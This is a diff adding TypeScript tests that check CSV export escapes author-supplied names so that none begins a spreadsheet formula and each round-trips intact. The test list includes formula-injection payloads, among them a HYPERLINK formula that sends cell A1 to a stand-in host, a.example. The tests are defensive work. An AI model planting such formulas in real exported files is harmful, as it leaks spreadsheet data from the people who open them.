@@ -9,7 +9,7 @@ import { numpyProgram } from '../../web/element/export/numpy.ts';
 import { valuesAsCsv, valuesAsJson, valuesAsNumpy } from '../../web/element/export/values-as-text.ts';
 import { defaultPreset, presetState } from '../../web/state/change.ts';
 import { parseValues, withValues } from '../../web/state/pasted.ts';
-import { isFault, loadCore, type Core, type Trace } from '../../wasm/wrapper/index.ts';
+import { isFault, loadCore, type Core, type Trace, type TraceNode } from '../../wasm/wrapper/index.ts';
 
 let core: Core;
 beforeAll(async () => {
@@ -46,6 +46,64 @@ describe('copied values', () => {
     const text = write(traceOf(block, { ...source, choices }));
     const next = withValues(block, start, parseValues(text, 'en')!);
     expect(next).toMatchObject({ matrices: source.matrices });
+  });
+});
+
+describe('names of authors in CSV', () => {
+  const numbers = { rows: 2, columns: 2, data: Float64Array.of(-1.5, 0.25, 1e21, -3e-7) };
+  const named = (name: string) => ({ name, ...numbers }) as unknown as TraceNode;
+  const csv = (...names: string[]) => valuesAsCsv({ nodes: names.map(named) } as unknown as Trace);
+  const rows = [
+    [-1.5, 0.25],
+    [1e21, -3e-7],
+  ];
+  const hostile = [
+    '=HYPERLINK("http://a.example/?"&A1)',
+    '=1+1',
+    '+1',
+    '-1',
+    '-A',
+    '@SUM(A1)',
+    '\tA',
+    '\r=1',
+    '\n=1',
+    ' =1',
+    '＝1',
+    '＠A',
+    "'=1",
+    "''",
+    "'A",
+    '"=1"',
+    'A\nB',
+    'A\r\nB',
+    'A\r=B',
+    'A = B',
+    'A,B;C\tD',
+    '1',
+    '(A)',
+    'A ',
+    'E + M',
+    'N₁(X)',
+  ];
+
+  it.each(hostile)('begin no formula, and are pasted back as they were: %j', (name) => {
+    const text = csv(name);
+    expect(text).not.toMatch(/^"?[=+\-@＝＋－＠\t\r\n ]/);
+    expect(parseValues(text, 'en')).toEqual([{ name, rows }]);
+  });
+
+  it('are each its own among many, and no number is changed', () => {
+    const text = csv(...hostile);
+    expect(parseValues(text, 'en')).toEqual(hostile.map((name) => ({ name, rows })));
+    expect(text.split('\n-1.5,0.25\n1e+21,-3e-7\n')).toHaveLength(hostile.length + 1);
+  });
+
+  it('of ours stand as they are', () => {
+    expect(
+      csv('W_Q', 'E + M', 'head 1 · Q')
+        .split('\n')
+        .filter((line) => /^[^-\d]/.test(line)),
+    ).toEqual(['W_Q', 'E + M', 'head 1 · Q']);
   });
 });
 
